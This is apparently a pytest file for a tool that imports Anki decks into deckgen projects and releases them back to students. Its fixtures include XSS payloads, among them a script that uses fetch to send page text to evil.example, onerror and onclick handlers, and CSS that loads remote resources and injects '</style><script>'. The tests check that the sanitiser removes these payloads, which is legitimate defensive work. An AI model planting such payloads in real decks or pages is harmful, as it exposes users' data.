"""`deckgen import`: a deck made in the real Anki (stock and custom note types), studied by a student,
brought into deckgen, and released back to the student without costing a review."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest
from anki.collection import Collection, DeckIdLimit, ExportAnkiPackageOptions
from anki.scheduler.v3 import CardAnswer
from anki_client import answer_card, import_package, scheduling_of, strip_style
from helpers import PNG, fill_new_card

from deckgen.importing.fields import convert
from deckgen.text.markup import html_text

DRUG_TEMPLATES = [
    ("Drug → Class", "Which class is {{Drug}}?", "{{FrontSide}}<hr id=answer>{{Class}}"),
    ("Drug → Mechanism", "How does {{Drug}} work?", "{{FrontSide}}<hr id=answer>{{Mechanism}}"),
    ("Drug → Side effects", "{{#Side effects}}Side effects of {{Drug}}?{{/Side effects}}",
     "{{FrontSide}}<hr id=answer>{{Side effects}}"),
]


def _drug_note_type(collection: Collection) -> dict:
    models = collection.models
    note_type = models.new("Pharmacology drug")
    for name in ("Drug", "Class", "Mechanism", "Side effects"):
        models.add_field(note_type, models.new_field(name))
    for name, front, back in DRUG_TEMPLATES:
        template = models.new_template(name)
        template["qfmt"], template["afmt"] = front, back
        models.add_template(note_type, template)
    note_type["css"] = ".card { font-family: serif; }\n"
    models.add(note_type)
    return models.by_name("Pharmacology drug")


def _add(collection: Collection, note_type: str | dict, deck: int, tags: list[str], **fields: str) -> None:
    model = collection.models.by_name(note_type) if isinstance(note_type, str) else note_type
    note = collection.new_note(model)
    for name, value in fields.items():
        note[name.replace("_", " ")] = value
    note.tags = tags
    collection.add_note(note, deck)


def _author_deck(folder: Path, extra_notes=()) -> Path:
    """A deck made in Anki itself, independently of deckgen, exported as a teacher would share it."""
    folder.mkdir()
    collection = Collection(str(folder / "collection.anki2"))
    try:
        top = collection.decks.id("Pharma")
        cardio = collection.decks.id("Pharma::Cardiovascular")
        renal = collection.decks.id("Pharma::Renal")
        drug = _drug_note_type(collection)
        collection.media.write_data("heart.png", PNG)
        _add(collection, "Basic", cardio, ["pharma::basics"],
             Front="What does <b>ACE</b> stand for?", Back="Angiotensin-converting enzyme")
        _add(collection, "Basic", cardio, [], Front="Which organ is this?", Back='<img src="heart.png"><br>The heart')
        _add(collection, "Basic (and reversed card)", renal, ["pharma::terms"],
             Front="Diuretic", Back="A drug that <i>increases</i> urine output")
        _add(collection, "Cloze", renal, ["pharma::cloze"],
             Text="Water is H<sub>2</sub>O; {{c1::furosemide}} acts on the {{c2::loop of Henle}}",
             Back_Extra="Na<sup>+</sup> and K<sup>+</sup> are lost")
        _add(collection, drug, cardio, ["pharma::drugs", "exam"],
             Drug="Metformin", Class="Biguanide", Mechanism="Lowers glucose production in the liver",
             Side_effects="<ul><li>Stomach upset</li><li>Rarely <b>lactic acidosis</b></li></ul>")
        _add(collection, drug, cardio, ["pharma::drugs"], Drug="Atenolol", Class="Beta blocker",
             Mechanism="Blocks β<sub>1</sub> receptors", Side_effects="")
        for note_type, deck, fields in extra_notes:
            _add(collection, note_type, {"cardio": cardio, "renal": renal}[deck], [], **fields)
        package = folder / "pharma.apkg"
        collection.export_anki_package(
            out_path=str(package),
            options=ExportAnkiPackageOptions(with_scheduling=False, with_deck_configs=False, with_media=True,
                                             legacy=True),
            limit=DeckIdLimit(top),
        )
        return package
    finally:
        collection.close()


def _as_read(html: str) -> str:
    """What a card side reads as, white space aside (HTML blocks read the same with or without it)."""
    text = html_text(strip_style(html), images=True)
    return "".join(re.sub(r"\[image [^\]]*\]", "[image]", text).split())  # deckgen names media by content


def _cards(collection: Collection) -> dict[tuple[str, int], tuple]:
    """Every card by its note's GUID and its ordinal: what it shows and what the student did with it."""
    cards = {}
    for card_id in collection.find_cards(""):
        card = collection.get_card(card_id)
        cards[(card.note().guid, card.ord)] = (
            _as_read(card.question()), _as_read(card.answer()), scheduling_of(collection, card_id),
            collection.decks.name(card.did), tuple(card.note().tags))
    return cards


@pytest.fixture
def studied(tmp_path, student):
    """The student imported the teacher's deck and studied it: reviews, a suspension and a flag."""
    package = _author_deck(tmp_path / "author")
    log = import_package(student, package)
    assert (len(log.new), len(log.conflicting)) == (6, 0)
    card_ids = sorted(student.find_cards(""))
    answer_card(student, card_ids[0], CardAnswer.GOOD)
    answer_card(student, card_ids[1], CardAnswer.AGAIN)
    answer_card(student, card_ids[2], CardAnswer.EASY)
    student.sched.suspend_cards([card_ids[3]])
    student.set_user_flag_for_cards(2, [card_ids[4]])
    return package


def _note_type_names(collection: Collection) -> list[str]:
    return sorted(collection.db.list("select name from notetypes"))


def test_an_imported_deck_releases_to_its_students_without_changing_a_card(
        studied, tmp_path, student, run_cli):
    project = tmp_path / "project"
    before = _cards(student)
    note_types = _note_type_names(student)
    assert any(state[2][5] for state in before.values())  # reviewed
    result = run_cli("import", str(studied), str(project), cwd=tmp_path)
    assert result.exit_code == 0, result.stderr
    assert result.stdout.splitlines()[-2:] == [
        f"imported 6 notes of 4 note types into {project} (2 subdecks, 1 media file); "
        f"report: {project / 'import-report.md'}",
        f"next: cd {project} && deckgen check --strict",
    ]
    checked = run_cli("check", "--strict", cwd=project)
    assert checked.exit_code == 0, checked.stderr
    released = run_cli("release", "1.0.0", cwd=project, env={"SOURCE_DATE_EPOCH": str(int(time.time()))})
    assert released.exit_code == 0, released.stderr

    log = import_package(student, project / "build" / "pharma-1.0.0.apkg", presets=True)

    # Every note kept its time, so Anki leaves each alone (its log calls that a duplicate).
    assert (len(log.new), len(log.updated), len(log.conflicting), len(log.duplicate)) == (0, 0, 0, 6)
    assert _note_type_names(student) == note_types  # no "Basic+" copy
    assert _cards(student) == before


def test_the_release_shows_every_card_as_the_teachers_deck_did(studied, tmp_path, student, run_cli):
    """Not only kept as they were: the release itself, imported anew, reads as the package did."""
    project = tmp_path / "project"
    assert run_cli("import", str(studied), str(project), cwd=tmp_path).exit_code == 0
    assert run_cli("release", "1.0.0", cwd=project, env={"SOURCE_DATE_EPOCH": str(int(time.time()))}).exit_code == 0
    (tmp_path / "fresh").mkdir()
    fresh = Collection(str(tmp_path / "fresh" / "collection.anki2"))
    try:
        import_package(fresh, project / "build" / "pharma-1.0.0.apkg", presets=True)
        released = {key: (front, back, deck, tags) for key, (front, back, _, deck, tags) in _cards(fresh).items()}
    finally:
        fresh.close()
    original = {key: (front, back, deck, tags) for key, (front, back, _, deck, tags) in _cards(student).items()}
    assert released == original


def test_the_project_keeps_ids_guids_and_templates(studied, tmp_path, run_cli):
    project = tmp_path / "project"
    run_cli("import", str(studied), str(project), cwd=tmp_path)
    deck = (project / "cards" / "deck.yaml").read_text()
    assert "name: Pharma\n" in deck
    assert "  anki-basic:\n" in deck and "  basic-and-reversed-card:\n" in deck and "  cloze:\n" not in deck
    assert (project / "templates" / "pharmacology-drug.drug-class.front.html").read_text() == (
        'Which class is {{ anki.field("Drug") }}?')
    cardio = (project / "cards" / "cardiovascular.yaml").read_text()
    assert "  question: ''" not in cardio
    assert "front: What does **ACE** stand for?\n" in cardio
    assert "  media:\n  - heart.png\n" in cardio
    assert "side_effects: |-\n    - Stomach upset\n    - Rarely **lactic acidosis**\n" in cardio
    renal = (project / "cards" / "renal.yaml").read_text()
    assert "text: Water is H<sub>2</sub>O; {{c1::furosemide}} acts on the {{c2::loop of Henle}}\n" in renal
    report = (project / "import-report.md").read_text()
    assert "\nEvery field was converted faithfully: nothing to decide.\n\n## " in report


def test_a_field_the_sanitiser_would_change_is_listed_in_the_report(tmp_path, run_cli):
    package = _author_deck(tmp_path / "author", extra_notes=[
        ("Basic", "renal", {"Front": "Danger<script>alert(1)</script>", "Back": "Safe"}),
        ("Basic", "cardio", {"Front": "Styled", "Back": '<span style="color: red">red</span> text'}),
    ])
    project = tmp_path / "project"

    result = run_cli("import", str(package), str(project), cwd=tmp_path)

    assert result.exit_code == 0, result.stderr
    assert result.stdout.splitlines()[:2] == [
        f"{project}/cards/renal.yaml: card 'danger', field 'Front': the sanitiser would remove <script>",
        f"{project}/cards/cardiovascular.yaml: card 'styled', field 'Back': the sanitiser would remove "
        "style= on <span>",
    ]
    report = (project / "import-report.md").read_text()
    # Quoted as code: on GitHub a bare <span> would vanish as HTML.
    assert "| `danger` | `Front` | `cards/renal.yaml` | `<script>` |" in report
    assert "| `styled` | `Back` | `cards/cardiovascular.yaml` | `style= on <span>` |" in report
    renal = (project / "cards" / "renal.yaml").read_text()
    assert "front: Danger<script>alert(1)</script>\n" in renal  # kept as written: the educator decides
    checked = run_cli("check", "--strict", cwd=project)
    assert checked.exit_code == 1


def test_html_becomes_markup_where_the_conversion_is_faithful():
    media = {"heart.png": "heart.png"}
    cases = {
        "<b>bold</b> and <i>it </i>x": "**bold** and *it* x",
        "<div>one</div><div>two</div>": "one<br>two",
        "H<sub>2</sub>O": "H<sub>2</sub>O",
        "List:<ul><li>a</li><li>b</li></ul>": "List:\n\n- a\n- b",
        "<ol><li>a</li><li>b</li></ol>": "1. a\n2. b",
        '<img src="heart.png">': "![](heart.png)",
        "*not* [emphasis]": "\\*not\\* \\[emphasis\\]",
        "- not a list": "\\- not a list",
    }
    assert {html: convert(html, media).markup for html in cases} == cases


def test_a_package_with_notes_in_the_top_deck_is_refused(tmp_path, run_cli):
    folder = tmp_path / "author"
    folder.mkdir()
    collection = Collection(str(folder / "collection.anki2"))
    top = collection.decks.id("Loose")
    _add(collection, "Basic", top, [], Front="Q", Back="A")
    package = folder / "loose.apkg"
    collection.export_anki_package(out_path=str(package), options=ExportAnkiPackageOptions(
        with_scheduling=False, with_deck_configs=False, with_media=True, legacy=True), limit=DeckIdLimit(top))
    collection.close()

    result = run_cli("import", str(package), str(tmp_path / "project"), cwd=tmp_path)

    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        f"{package}: deck 'Loose' holds notes: deckgen puts cards one level below the deck, in "
        "'Loose::<subdeck>'; move them in Anki and export again")


def test_a_package_with_a_retired_subdeck_is_refused_before_anything_is_written(tmp_path, run_cli):
    """A deckgen release holds its retired cards in <deck>::Retired, the subdeck deckgen keeps."""
    folder = tmp_path / "author"
    folder.mkdir()
    collection = Collection(str(folder / "collection.anki2"))
    _add(collection, "Basic", collection.decks.id("Old::Current"), [], Front="Q", Back="A")
    _add(collection, "Basic", collection.decks.id("Old::Retired"), [], Front="Gone?", Back="Yes")
    package = folder / "old.apkg"
    collection.export_anki_package(out_path=str(package), options=ExportAnkiPackageOptions(
        with_scheduling=False, with_deck_configs=False, with_media=True, legacy=True),
        limit=DeckIdLimit(collection.decks.id("Old")))
    collection.close()

    result = run_cli("import", str(package), str(tmp_path / "project"), cwd=tmp_path)

    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"{package}: deck 'Old::Retired' holds notes, and deckgen keeps the subdeck 'Retired' for the cards it "
        "retires: rename it in Anki (or move its notes) and export again",
        "1 problem found; nothing was written"]
    assert not (tmp_path / "project").exists()


def test_an_import_that_fails_while_writing_leaves_nothing_behind(studied, tmp_path, monkeypatch):
    from deckgen.commands.tools import import_deck
    from deckgen.errors import DeckError, Location
    from deckgen.importing import writer as importwrite

    def refused(*arguments):
        raise DeckError.at(Location("cards/deck.yaml", 3, 1), "refused for the test")

    monkeypatch.setattr(importwrite, "_lock", refused)
    (tmp_path / "project").mkdir()  # an empty folder the educator made: it stays
    with pytest.raises(DeckError):
        import_deck(studied, tmp_path / "project")
    assert list((tmp_path / "project").iterdir()) == []


def test_import_refuses_a_folder_that_has_a_project(studied, tmp_path, run_cli):
    (tmp_path / "project" / "cards").mkdir(parents=True)

    result = run_cli("import", str(studied), str(tmp_path / "project"), cwd=tmp_path)

    assert result.exit_code == 2
    assert result.stderr.splitlines()[-1] == (
        f"deckgen import: error: argument DIR: {tmp_path / 'project' / 'cards'}/ already exists: deckgen import "
        "makes a new project in an empty folder")


def _small_package(folder: Path, front: str = "Q", back: str = "A") -> Path:
    """A one-note package made in Anki: the base the hostile packages below are altered from."""
    folder.mkdir()
    collection = Collection(str(folder / "collection.anki2"))
    deck = collection.decks.id("Small::Part")
    _add(collection, "Basic", deck, [], Front=front, Back=back)
    collection.media.write_data("a.png", PNG)
    package = folder / "small.apkg"
    collection.export_anki_package(out_path=str(package), options=ExportAnkiPackageOptions(
        with_scheduling=False, with_deck_configs=False, with_media=True, legacy=True),
        limit=DeckIdLimit(collection.decks.id("Small")))
    collection.close()
    return package


def _altered(package: Path, sql: str = "", media: bytes | None = None) -> Path:
    """The package with its collection changed by `sql` and its media list replaced by `media`."""
    import sqlite3
    import zipfile

    work = package.parent / "work"
    work.mkdir()
    with zipfile.ZipFile(package) as archive:
        archive.extractall(work)
    collection = next(name for name in ("collection.anki21", "collection.anki2") if (work / name).exists())
    if sql:
        connection = sqlite3.connect(work / collection)
        connection.executescript(sql)
        connection.commit()
        connection.close()
    if media is not None:
        (work / "media").write_bytes(media)
    altered = package.parent / "altered.apkg"
    with zipfile.ZipFile(altered, "w") as archive:
        for path in sorted(work.iterdir()):
            archive.write(path, path.name)
    return altered


HOSTILE_PACKAGES = {
    "a media list that is no mapping": ({"media": b"[1, 2]"},
                                        "the package's media list is unreadable: export the deck again from Anki"),
    "notes of a note type it lacks": ({"sql": "UPDATE notes SET mid = 42;"},
                                      "notes of note type 42 are in the package, but not the note type: export the "
                                      "deck again from Anki"),
    "a sort field past the fields": (
        {"sql": "UPDATE col SET models = json_set(models, '$.' || (SELECT mid FROM notes) || '.sortf', 9);"},
        "not a readable Anki package: note type 'Basic' has no fields, no card template or a sort field it lacks"),
    "cards in a deck it does not name": ({"sql": "UPDATE cards SET did = 999;"},
                                         "some notes' cards are in a deck the package does not name: export the deck "
                                         "again from Anki"),
    # Found when the project is checked, then said of the package: the project's files are gone.
    "a field named as Anki's own": (
        {"sql": "UPDATE col SET models = json_set(models, '$.' || (SELECT mid FROM notes) || '.flds[0].name', "
                "'Tags');"},
        "note type 'anki-basic': 'Tags' is a name Anki gives its own fields: choose another (in the project it would "
        "make, at cards/deck.yaml:10:7); change it in Anki and export again"),
    "markup in a note type's name": (
        {"sql": "UPDATE col SET models = json_set(models, '$.' || (SELECT mid FROM notes) || '.name', "
                "'Basic <img src=x onerror=alert(1)>');"},
        "note type 'Basic <img src=x onerror=alert(1)>': the name 'Basic <img src=x onerror=alert(1)>' contains "
        "'<' '>': names are shown on every card as they are, so they may not use any of < > \" { } [ ] \\ * `; "
        "rename it in Anki and export again"),
}


@pytest.mark.parametrize("case", HOSTILE_PACKAGES)
def test_a_hostile_package_is_refused_with_a_message_and_nothing_written(case, tmp_path, run_cli):
    change, message = HOSTILE_PACKAGES[case]
    package = _altered(_small_package(tmp_path / "author"), **change)

    result = run_cli("import", str(package), str(tmp_path / "project"), cwd=tmp_path)

    assert result.exit_code == 1, result.stderr
    assert result.stderr.splitlines() == [f"{package}: {message}", "1 problem found; nothing was written"]
    assert not (tmp_path / "project").exists()


@pytest.mark.parametrize("front, shown", [("<![x[ marked", "marked"),
                                          ("<div>" * 3000 + "deep" + "</div>" * 3000, "deep")])
def test_field_html_python_reads_badly_is_imported_not_a_traceback(front, shown, tmp_path, run_cli):
    """A marked section Python's parser stops at; elements nested deeper than its recursion goes."""
    result = run_cli("import", str(_small_package(tmp_path / "author", front)), str(tmp_path / "project"),
                     cwd=tmp_path)

    assert result.exit_code == 0, result.stderr
    assert shown in (tmp_path / "project" / "cards" / "part.yaml").read_text()


def test_media_names_that_differ_only_in_case_stay_two_files(tmp_path, run_cli):
    """macOS and Windows would write a.png and A.png as one file. (Anki itself renames the second;
    a package written otherwise, by genanki say, may hold both.)"""
    import json
    import zipfile

    package = _small_package(tmp_path / "author", back='<img src="a.png"><img src="A.png">')
    with zipfile.ZipFile(package, "a") as archive:
        listing = json.loads(archive.read("media"))
        archive.writestr("media-2", PNG + b"another")
    both = tmp_path / "both.apkg"
    with zipfile.ZipFile(package) as source, zipfile.ZipFile(both, "w") as archive:
        for name in source.namelist():
            if name != "media":
                archive.writestr(name, source.read(name))
        archive.writestr("media", json.dumps({**listing, "media-2": "A.png"}))
    result = run_cli("import", str(both), str(tmp_path / "project"), cwd=tmp_path)

    assert result.exit_code == 0, result.stderr
    media = tmp_path / "project" / "cards" / "media"
    assert sorted(path.name for path in media.iterdir()) == ["A.png", "README.md", "a-2.png"]  # README: init's too


def _presets_of_decks(collection: Collection) -> dict[str, str]:
    return {deck.name: collection.decks.config_dict_for_deck_id(deck.id)["name"]
            for deck in collection.decks.all_names_and_ids() if deck.name.startswith("Pharma")}


def test_the_first_release_moves_the_students_decks_to_its_preset_and_the_report_says_so(
        studied, tmp_path, student, run_cli):
    project = tmp_path / "project"
    before = _presets_of_decks(student)
    assert run_cli("import", str(studied), str(project), cwd=tmp_path).exit_code == 0
    released = run_cli("release", "1.0.0", cwd=project, env={"SOURCE_DATE_EPOCH": str(int(time.time()))})
    assert released.exit_code == 0, released.stderr

    import_package(student, project / "build" / "pharma-1.0.0.apkg", presets=True)

    assert set(before.values()) == {"Default"}
    assert set(_presets_of_decks(student).values()) == {"Pharma (course order)"}
    report = (project / "import-report.md").read_text()
    assert "## Your students' deck options change at the first release\n" in report
    assert ("A student who ticks **Import deck presets** when importing a release, as deckgen's README asks, "
            "has every deck of *Pharma* moved to *Pharma (course order)*, at the first release and at every "
            "later one") in report


HOSTILE_FRONT = ("<script>fetch('https://evil.example/?' + document.body.innerText)</script>"
                 '<div class="q" onclick="alert(1)">{{Front}}</div><img src="https://evil.example/pixel.png">')
HOSTILE_CSS = ('@import url("https://evil.example/x.css");\n.card { font-family: serif; }\n'
               "</style><script>alert(1)</script><style>\n"
               '@font-face { font-family: f; src: url("https://evil.example/f.woff"); }\n')


def hostile_shared_deck(folder: Path) -> Path:
    """A deck shared by someone else, made in Anki: script, a handler and a remote image in its front
    template, a remote stylesheet and font and `</style><script>` in its CSS."""
    folder.mkdir()
    collection = Collection(str(folder / "collection.anki2"))
    models = collection.models
    shared = models.copy(models.by_name("Basic"), add=False)
    shared["name"] = "Shared basic"
    shared["tmpls"][0]["qfmt"] = HOSTILE_FRONT
    shared["css"] = HOSTILE_CSS
    models.add(shared)
    _add(collection, "Shared basic", collection.decks.id("Shared::Part"), [], Front="Question", Back="Answer")
    package = folder / "shared.apkg"
    collection.export_anki_package(out_path=str(package), limit=DeckIdLimit(collection.decks.id("Shared")),
                                   options=ExportAnkiPackageOptions(with_scheduling=False, with_deck_configs=False,
                                                                    with_media=False, legacy=True))
    collection.close()
    return package


def test_a_hostile_shared_deck_is_imported_without_its_script_and_the_report_says_what_was_removed(
        tmp_path, run_cli, student):
    package = hostile_shared_deck(tmp_path / "author")
    import_package(student, package)  # a student already studies the shared deck, script and all
    project = tmp_path / "project"

    result = run_cli("import", str(package), str(project), cwd=tmp_path)

    assert result.exit_code == 0, result.stderr
    assert result.stdout.splitlines()[:2] == [
        f"{project}/templates/shared-basic.card-1.front.html: removed <script>, onclick= on <div>, src= on <img>",
        f"{project}/templates/shared-basic.css: removed @import, url(https://evil.example/x.css), '</', '<', url(https://evil.example/f.woff)",
    ]
    report = (project / "import-report.md").read_text()
    assert ("| `templates/shared-basic.card-1.front.html` | `<script>`, `onclick= on <div>`, `src= on <img>` |"
            in report)
    assert ("| `templates/shared-basic.css` | `@import`, `url(https://evil.example/x.css)`, `'</'`, `'<'`, "
            "`url(https://evil.example/f.woff)` |") in report
    assert "nothing to decide" not in report
    assert run_cli("check", "--strict", cwd=project).exit_code == 0
    released = run_cli("release", "1.0.0", cwd=project, env={"SOURCE_DATE_EPOCH": str(int(time.time()))})
    assert released.exit_code == 0, released.stderr

    log = import_package(student, project / "build" / "shared-1.0.0.apkg")

    # The note type's look changed, with a newer time: the student's Anki replaced it (no copy).
    assert (len(log.new), len(log.conflicting)) == (0, 0)
    student.close()
    student.reopen()
    assert [name for name in student.models.all_names() if name.startswith("Shared")] == ["Shared basic"]
    note_type = student.models.by_name("Shared basic")
    shipped = note_type["css"] + "".join(t["qfmt"] + t["afmt"] for t in note_type["tmpls"])
    for hostile in ("<script", "</style", "onclick", "evil.example", "@import"):
        assert hostile not in shipped.lower()
    card = student.get_card(student.find_cards("")[0])
    assert _as_read(card.question()).startswith("Question")  # the image lost its remote address


def test_new_adds_a_card_of_an_imported_note_type_in_line_with_the_imported_cards(tmp_path, run_cli):
    """`deckgen import` writes card lists at the margin; the new card lines up with them, and has the
    keys of the imported note type's fields."""
    project = tmp_path / "project"
    assert run_cli("import", str(_author_deck(tmp_path / "author")), str(project), cwd=tmp_path).exit_code == 0
    cards = project / "cards" / "renal.yaml"

    result = run_cli("new", "pharmacology-drug", "--subdeck", "renal", cwd=project)

    assert result.exit_code == 0, result.stderr
    assert cards.read_text().endswith(
        "\n\n- id: renal-new-1  # rename it to say what the card asks, before its first release\n"
        "  kind: pharmacology-drug\n  drug:\n  class:\n  mechanism:\n"
        "  # side_effects:  # optional: remove the first '# ' to write it\n")
    fill_new_card(cards, "furosemide", drug="Furosemide", mechanism="Blocks salt uptake in the loop of Henle",
                  side_effects=None, **{"class": "Loop diuretic"})
    checked = run_cli("check", "--strict", cwd=project)
    assert (checked.exit_code, checked.stderr) == (0, "")
    assert "ok: 7 notes" in checked.stdout
